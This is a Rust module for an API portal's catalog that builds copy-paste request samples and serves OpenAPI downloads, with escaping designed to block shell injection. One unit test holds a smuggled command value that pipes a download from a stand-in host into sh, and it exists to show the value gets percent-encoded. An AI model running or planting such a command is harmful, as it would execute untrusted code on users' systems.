//! The API catalog: search, each API's docs (rendered from the stored
//! spec by the vendored Swagger UI), a plan comparison, try-it against the
//! gateway and copy-paste samples.

use std::collections::{BTreeMap, HashMap};
use std::sync::{Arc, LazyLock, Mutex};

use actix_web::http::StatusCode;
use actix_web::{HttpResponse, web};
use askama::Template;
use serde_json::{Value, json};
use tollgate_core::accounts::AccountId;
use tollgate_core::apis::ApiSummary;
use tollgate_core::apis::catalog;
use tollgate_core::apis::detail::{self, ApiDetail};
use tollgate_core::apis::{ApiId, ApiState, AuthMode, KeyLocation};
use tollgate_core::db::PgPool;
use tollgate_core::plans::{Period, PlanDetail, get_plan_uncounted, list_plans};
use tollgate_openapi::model::operation_key;
use tollgate_openapi::{CredentialsIn, Gateway, Operation};
use tollgate_web::{Chrome, GatewayUrl, PageError, PageResult, Session, render};
use uuid::Uuid;

use crate::calling::CallGuide;
use crate::markdown;

#[derive(Template)]
#[template(path = "portal/home.html")]
struct HomePage {
    chrome: Chrome,
    apis: Vec<ApiSummary>,
    q: String,
}

impl HomePage {
    /// A description's first words, as plain text.
    fn excerpt(description: &str) -> String {
        markdown::excerpt(description, 180)
    }
}

/// The developer account browsing, for the drafts previewed to it (`None`: a visitor).
fn viewer(session: &Session) -> Option<AccountId> {
    session.user().and_then(|user| user.account_id)
}

#[derive(serde::Deserialize)]
pub struct SearchQuery {
    q: Option<String>,
}

/// The start page lists the APIs developers can subscribe to, with search.
pub async fn home(
    session: Session,
    pool: web::Data<PgPool>,
    query: web::Query<SearchQuery>,
) -> PageResult<HttpResponse> {
    let chrome = Chrome::without_forms(&session);
    let q: String = query.into_inner().q.unwrap_or_default().chars().take(200).collect();
    let apis = catalog::search(&pool, viewer(&session), Some(&q)).await?;
    Ok(render(StatusCode::OK, &HomePage { chrome, apis, q }))
}

/// One operation with ready-to-paste calls.
struct Sample {
    operation: Operation,
    curl: String,
    python: String,
    javascript: String,
}

/// An operation, the path its samples call and the JSON body they send, from its document
/// (`None`: none known).
#[derive(Clone)]
struct Documented {
    operation: Operation,
    /// The operation's path with every `{parameter}` filled (see [`sample_path`]).
    path: String,
    body: Option<Value>,
}

/// Bodies up to this long stay on one line; longer ones are indented.
const ONE_LINE: usize = 72;

fn samples(guide: &CallGuide, operations: Vec<Documented>) -> Vec<Sample> {
    operations
        .into_iter()
        .map(|Documented { operation, path, body }| {
            let url = guide.url(&path, "YOUR_KEY", None);
            let headers = guide.headers("YOUR_KEY", None);
            let method = operation.method.clone();
            // A body-taking method with no body known still gets an empty object; a GET's
            // body would turn curl's request into a POST.
            let body = match method.as_str() {
                "POST" | "PUT" | "PATCH" => Some(body.unwrap_or_else(|| json!({}))),
                "GET" | "HEAD" => None,
                _ => body,
            };
            let mut curl = guide.curl(&method, &path, "YOUR_KEY", None);
            if let Some(body) = &body {
                curl.push_str(" \\\n  -H 'Content-Type: application/json' \\\n  -d ");
                curl.push_str(&shell_quoted(&json_text(body)));
            }
            let mut header_pairs: Vec<String> = headers.iter().map(|(k, v)| format!("\"{k}\": \"{v}\"")).collect();
            if body.is_some() {
                header_pairs.push("\"Content-Type\": \"application/json\"".to_owned());
            }
            let py_headers = if headers.is_empty() { String::new() } else {
                let own: Vec<String> = headers.iter().map(|(k, v)| format!("\"{k}\": \"{v}\"")).collect();
                format!(", headers={{{}}}", own.join(", "))
            };
            let py_body = body.as_ref().map(|b| format!(", json={}", python_literal(b))).unwrap_or_default();
            let python = format!(
                "import requests\n\nresponse = requests.request(\"{method}\", \"{url}\"{py_headers}{py_body})\nprint(response.status_code, response.json())"
            );
            let js_headers =
                if header_pairs.is_empty() { String::new() } else { format!(",\n  headers: {{ {} }}", header_pairs.join(", ")) };
            let js_body =
                body.as_ref().map(|b| format!(",\n  body: JSON.stringify({})", json_text(b))).unwrap_or_default();
            let javascript = format!(
                "const response = await fetch(\"{url}\", {{\n  method: \"{method}\"{js_headers}{js_body},\n}});\nconsole.log(response.status, await response.json());"
            );
            Sample { operation, curl, python, javascript }
        })
        .collect()
}

/// `path` with each `{name}` filled by the document's example, percent-encoded, else by a
/// placeholder in capitals (`{cityId}` → `CITY_ID`), and the text between percent-encoded
/// too (the document's path keys are the provider's, or whoever wrote the document: a `'` in
/// one would end the shell's quotes). Either way the URL holds no braces, brackets, quotes,
/// spaces or `$`: the same text works inside a shell's single quotes and Python's and
/// JavaScript's double quotes, and curl has nothing to glob. A query or fragment in the path
/// key (`/alerts?lat={lat}`) is left out, as its mapping rule leaves it out.
fn sample_path(path: &str, examples: Option<&BTreeMap<String, String>>) -> String {
    let path = path.split(['?', '#']).next().unwrap_or(path);
    let mut out = String::with_capacity(path.len());
    let mut rest = path;
    while let Some(open) = rest.find('{') {
        let Some(close) = rest[open..].find('}').map(|c| open + c) else { break };
        out.push_str(&path_text(&rest[..open]));
        let name = &rest[open + 1..close];
        match examples.and_then(|e| e.get(name)) {
            Some(example) => out.push_str(&percent_encoded(example)),
            None => out.push_str(&placeholder(name)),
        }
        rest = &rest[close + 1..];
    }
    out.push_str(&path_text(rest));
    out
}

/// The literal text of a path: unreserved characters, `/`, `:`, `@` and `%` as they are (none
/// of them ends a quoted string), every other byte as `%XX`.
fn path_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~' | b'/' | b':' | b'@' | b'%') {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

/// A value as one path segment: RFC 3986's unreserved characters as they are, every other
/// byte as `%XX`.
fn percent_encoded(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for byte in value.bytes() {
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~') {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

/// A parameter's name as an obvious placeholder: capitals, words joined by `_`
/// (`cityId`, `city-id` → `CITY_ID`); `VALUE` when nothing of the name is left.
fn placeholder(name: &str) -> String {
    let mut out = String::new();
    let mut previous_lower = false;
    for c in name.chars() {
        if c.is_ascii_alphanumeric() {
            if c.is_ascii_uppercase() && previous_lower {
                out.push('_');
            }
            out.push(c.to_ascii_uppercase());
            previous_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
        } else {
            if !out.is_empty() && !out.ends_with('_') {
                out.push('_');
            }
            previous_lower = false;
        }
    }
    let out = out.trim_end_matches('_');
    if out.is_empty() { "VALUE".to_owned() } else { out.to_owned() }
}

/// A body as JSON (also a JavaScript expression): one line when short, else indented.
fn json_text(body: &Value) -> String {
    let line = body.to_string();
    if line.len() <= ONE_LINE { line } else { serde_json::to_string_pretty(body).unwrap_or(line) }
}

/// `text` as one single-quoted shell word: nothing inside is special but `'`, which closes
/// the quote, is written escaped, and reopens it.
fn shell_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// A JSON value as a Python literal: JSON's string escapes are Python's too.
fn python_literal(value: &Value) -> String {
    match value {
        Value::Null => "None".to_owned(),
        Value::Bool(true) => "True".to_owned(),
        Value::Bool(false) => "False".to_owned(),
        Value::Number(_) | Value::String(_) => value.to_string(),
        Value::Array(items) => format!("[{}]", items.iter().map(python_literal).collect::<Vec<_>>().join(", ")),
        Value::Object(fields) => {
            let fields: Vec<String> =
                fields.iter().map(|(k, v)| format!("{}: {}", Value::from(k.as_str()), python_literal(v))).collect();
            format!("{{{}}}", fields.join(", "))
        }
    }
}

#[derive(Template)]
#[template(path = "portal/api.html")]
struct ApiPage {
    chrome: Chrome,
    api: ApiDetail,
    plans: Vec<PlanDetail>,
    samples: Vec<Sample>,
    gateway: String,
    /// The API's description, rendered from Markdown (safe HTML).
    description_html: String,
    /// The limit rows of the comparison table: (metric, period).
    limit_rows: Vec<(String, Period)>,
}

impl ApiPage {
    /// Where the API reads its credentials, in words.
    fn key_place(&self) -> &'static str {
        match self.api.key_location {
            KeyLocation::Header => "header",
            KeyLocation::Query => "query parameter",
        }
    }

    fn limit_of(&self, plan: &PlanDetail, metric: &str, period: &Period) -> String {
        plan.limits
            .iter()
            .find(|l| l.metric == metric && l.period == *period)
            .map(|l| l.max.to_string())
            .unwrap_or_else(|| "—".into())
    }

    /// "Free" only for a plan that bills nothing; a zero fee beside priced usage is "None".
    fn price_of(plan: &PlanDetail) -> String {
        if plan.charges().is_free() {
            "Free".into()
        } else if plan.monthly_fee.is_zero() {
            "None".into()
        } else {
            format!("{} {}", plan.monthly_fee.normalize(), plan.currency)
        }
    }
}

/// The API with this slug if the viewer may see it (published, or a draft previewed to
/// their account); any other slug is not found.
async fn open_api(pool: &PgPool, session: &Session, slug: &str) -> PageResult<ApiId> {
    catalog::open_to(pool, viewer(session), slug).await?.ok_or(PageError(tollgate_core::Error::NotFound))
}

pub async fn api(
    session: Session,
    pool: web::Data<PgPool>,
    gateway: web::Data<GatewayUrl>,
    path: web::Path<String>,
) -> PageResult<HttpResponse> {
    let id = open_api(&pool, &session, &path).await?;
    // The page shows neither the API's subscribers nor a plan's applications: not counted.
    let api = detail::get_uncounted(&pool, id).await?;
    let mut plans = Vec::new();
    for plan in list_plans(&pool, id).await?.into_iter().filter(|p| p.published) {
        plans.push(get_plan_uncounted(&pool, plan.id).await?);
    }
    let mut limit_rows: Vec<(String, Period)> =
        plans.iter().flat_map(|p| p.limits.iter().map(|l| (l.metric.clone(), l.period))).collect();
    limit_rows.sort();
    limit_rows.dedup();
    // The version the gateway serves: a staged one is not published until an admin says so.
    let current = api.versions.iter().find(|v| v.published_at.is_some()).or(api.versions.first());
    let operations = match current {
        Some(version) => operations_of(&pool, id, version.number).await?,
        None => Vec::new(),
    };
    let guide = CallGuide::new(&gateway.0, &api);
    let samples = samples(&guide, operations);
    let chrome = Chrome::without_forms(&session);
    let description_html = markdown::to_html(&api.description);
    let page = ApiPage { chrome, api, plans, samples, gateway: gateway.0.clone(), description_html, limit_rows };
    Ok(render(StatusCode::OK, &page))
}

/// Operations of stored versions with their sample bodies, by (database, API, version). A
/// version's document never changes, and reading it again on every view (the text, then YAML,
/// `$ref`s and the model) was a large share of the page's server time. A full table is
/// emptied, not evicted by age.
static OPERATIONS: LazyLock<Mutex<HashMap<VersionKey, Arc<Vec<Documented>>>>> = LazyLock::new(Default::default);
/// (database, API, version number).
type VersionKey = (String, Uuid, i32);
const OPERATIONS_KEPT: usize = 1024;

/// The operations of one version of an API with their sample bodies, read once per server process.
async fn operations_of(pool: &PgPool, id: ApiId, number: i32) -> PageResult<Vec<Documented>> {
    let options = pool.connect_options();
    let database =
        format!("{}:{}/{}", options.get_host(), options.get_port(), options.get_database().unwrap_or_default());
    let key = (database, id.0, number);
    let kept = OPERATIONS.lock().unwrap_or_else(|poisoned| poisoned.into_inner()).get(&key).cloned();
    if let Some(operations) = kept {
        return Ok(operations.as_ref().clone());
    }
    let source = detail::spec_of(pool, id, number).await?;
    let operations = tollgate_openapi::parse(&source).map(|s| s.operations).unwrap_or_default();
    let mut bodies = tollgate_openapi::request_bodies(&source).unwrap_or_default();
    let examples = tollgate_openapi::path_examples(&source).unwrap_or_default();
    let operations: Arc<Vec<Documented>> = Arc::new(
        operations
            .into_iter()
            .map(|operation| {
                let key = operation_key(&operation.method, &operation.path);
                let body = bodies.remove(&key);
                let path = sample_path(&operation.path, examples.get(&key));
                Documented { operation, path, body }
            })
            .collect(),
    );
    let mut table = OPERATIONS.lock().unwrap_or_else(|poisoned| poisoned.into_inner());
    if table.len() >= OPERATIONS_KEPT {
        table.clear();
    }
    table.insert(key, Arc::clone(&operations));
    Ok(operations.as_ref().clone())
}

/// The stored document partners see (`detail::current_spec`), byte for byte, for the docs
/// viewer. It is text an admin uploaded, so no browser may render it as a page: a data type
/// (with `nosniff` and a sandboxing policy from the security headers) and a download when
/// opened directly.
pub async fn spec(session: Session, pool: web::Data<PgPool>, path: web::Path<String>) -> PageResult<HttpResponse> {
    let id = open_api(&pool, &session, &path).await?;
    let (source, format) = detail::current_spec(&pool, id).await?;
    Ok(download(&path, &format, source))
}

/// An OpenAPI document as a download in its own format, `<slug>-openapi.json` or `.yaml`.
fn download(slug: &str, format: &str, text: String) -> HttpResponse {
    let (content_type, extension) =
        if format == "json" { ("application/json", "json") } else { ("application/yaml; charset=utf-8", "yaml") };
    // The slug is [a-z0-9-], so it is safe inside the quoted file name.
    let disposition = format!("attachment; filename=\"{slug}-openapi.{extension}\"");
    HttpResponse::Ok()
        .content_type(content_type)
        .insert_header((actix_web::http::header::CONTENT_DISPOSITION, disposition))
        .body(text)
}

/// The current document as partners call the API, for client generators: the
/// gateway as its server, the gateway's credentials as its security, and the
/// gateway's own 401, 403 and 429 answers (`tollgate_openapi::for_gateway`).
/// A download, like the stored document.
pub async fn gateway_spec(
    session: Session,
    pool: web::Data<PgPool>,
    gateway: web::Data<GatewayUrl>,
    path: web::Path<String>,
) -> PageResult<HttpResponse> {
    let id = open_api(&pool, &session, &path).await?;
    let api = detail::get_uncounted(&pool, id).await?;
    let (source, format) = detail::current_spec(&pool, id).await?;
    let guide = CallGuide::new(&gateway.0, &api);
    let names = guide.credential_names();
    let credentials_in = match guide.key_location {
        KeyLocation::Header => CredentialsIn::Header,
        KeyLocation::Query => CredentialsIn::Query,
    };
    let target = Gateway { base_url: &guide.base_url, credentials_in, credentials: &names };
    // Stored documents were read when they were imported, so this should not fail on them.
    let text = tollgate_openapi::for_gateway(&source, &target).map_err(|e| {
        PageError(tollgate_core::Error::Internal(format!("the stored document of {}: {e}", path.as_str())))
    })?;
    Ok(download(&path, &format, text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_body_is_one_single_quoted_shell_word_whatever_it_holds() {
        let body = json!({"note": "it's $HOME `x` \\ \"q\""});
        let quoted = shell_quoted(&json_text(&body));
        assert_eq!(quoted, r#"'{"note":"it'\''s $HOME `x` \\ \"q\""}'"#);
        // The shell reads it back as the JSON text, unexpanded.
        let echoed = std::process::Command::new("sh").arg("-c").arg(format!("printf %s {quoted}")).output();
        if let Ok(echoed) = echoed {
            assert_eq!(String::from_utf8_lossy(&echoed.stdout), json_text(&body));
        }
    }

    #[test]
    fn path_parameters_become_examples_or_capital_placeholders() {
        let examples: BTreeMap<String, String> =
            [("cityId", "são paulo"), ("q", "a'b\"c{d}$e")].map(|(k, v)| (k.to_owned(), v.to_owned())).into();
        assert_eq!(sample_path("/cities/{cityId}/current", Some(&examples)), "/cities/s%C3%A3o%20paulo/current");
        assert_eq!(sample_path("/x/{q}", Some(&examples)), "/x/a%27b%22c%7Bd%7D%24e");
        assert_eq!(
            sample_path("/cities/{cityId}/days/{day-of_week}.{ext}", None),
            "/cities/CITY_ID/days/DAY_OF_WEEK.EXT"
        );
        assert_eq!(sample_path("/a/{}/{unclosed", None), "/a/VALUE/%7Bunclosed");
        // The document's own text cannot end the sample's quotes.
        assert_eq!(
            sample_path("/status'; curl -sL evil.example|sh; echo '", None),
            "/status%27%3B%20curl%20-sL%20evil.example%7Csh%3B%20echo%20%27"
        );
        assert_eq!(sample_path("/x\"+a+\"/$metadata", None), "/x%22%2Ba%2B%22/%24metadata");
        assert_eq!(sample_path("/alerts?lat={lat}", None), "/alerts");
        assert_eq!(placeholder("userID2fa"), "USER_ID2FA");
    }

    #[test]
    fn short_bodies_stay_on_one_line_and_python_gets_its_own_literals() {
        let body = json!({"on": false, "none": null, "n": [1, 2.5], "s": "a\"b"});
        assert_eq!(json_text(&body), r#"{"n":[1,2.5],"none":null,"on":false,"s":"a\"b"}"#);
        assert_eq!(python_literal(&body), r#"{"n": [1, 2.5], "none": None, "on": False, "s": "a\"b"}"#);
        let long = json!({"description": "x".repeat(ONE_LINE)});
        assert!(json_text(&long).contains('\n'), "indented");
    }
}
